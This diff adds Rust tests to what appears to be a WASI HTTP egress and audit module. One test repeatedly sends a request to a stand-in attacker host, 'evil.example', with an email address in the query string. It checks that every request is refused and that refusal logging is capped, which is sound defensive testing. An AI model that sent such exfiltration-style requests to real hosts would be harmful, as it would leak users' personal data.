@@ -545,3 +545,59 @@ fn request_span(parent: &Span, method: &'static str, uri: &Uri, path: &Path) -> 
         error.type = Empty,
     )
 }
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Mutex;
+
+    use wasmtime_wasi_http::WasiHttpHooks as _;
+
+    use super::*;
+    use crate::egress::Egress;
+    use crate::sender::UnpooledSender;
+    use crate::{Connection, Limits};
+
+    #[derive(Clone, Default)]
+    struct Memory(Arc<Mutex<Vec<What>>>);
+
+    impl AuditSink for Memory {
+        fn record(&self, event: Event) -> Receipt {
+            self.0.lock().unwrap().push(event.what);
+            Box::pin(async { Ok(()) })
+        }
+    }
+
+    #[tokio::test]
+    async fn requests_that_are_refused_do_not_fill_the_log() {
+        let memory = Memory::default();
+        let observer = Arc::new(Observer::new(Some(Arc::new(memory.clone())), Required::All, None));
+        let tenant = Tenant::new("t".into(), Connection::new("key"), Limits::default(), Arc::new(UnpooledSender));
+        let ongoing = observer.begin(&tenant, None).await.unwrap();
+        let traffic = Arc::new(Traffic::of(ongoing.call(), tenant.limits()));
+        let mut egress =
+            Egress { allowed: tenant.origin().cloned(), vault: None, traffic: traffic.clone(), sender: tenant.sender() };
+        let work = async {
+            for _ in 0..100 {
+                let request = Request::get("https://evil.example/?email=a@b.de").body(WasiBody::default()).unwrap();
+                let refused = Pin::from(egress.send_request(request, None, Box::new(async { Ok(()) }))).await;
+                assert!(matches!(refused, Err(Error::HttpRequestDenied)));
+            }
+            Ok(())
+        };
+        ongoing.observe(&traffic, work, Told::of_work).await.unwrap();
+        let events = memory.0.lock().unwrap();
+        let by_origin = |what: &What| {
+            matches!(what, What::RequestRefused { by: "origin", server: Some(server), .. } if server == "https://evil.example")
+        };
+        assert_eq!(events.iter().filter(|what| by_origin(what)).count() as u64, MOST_REFUSED);
+        assert!(matches!(events.last(), Some(What::CallEnds(Ended { requests: 0, refused: 100, .. }))));
+        assert_eq!(events.len() as u64, MOST_REFUSED + 2);
+    }
+
+    #[test]
+    fn a_fault_is_a_name() {
+        assert_eq!(fault(&Error::ConnectionRefused), "ConnectionRefused");
+        let secret = Error::DnsError { rcode: Some("secret".into()), info_code: None };
+        assert_eq!(fault(&secret), "DnsError");
+    }
+}
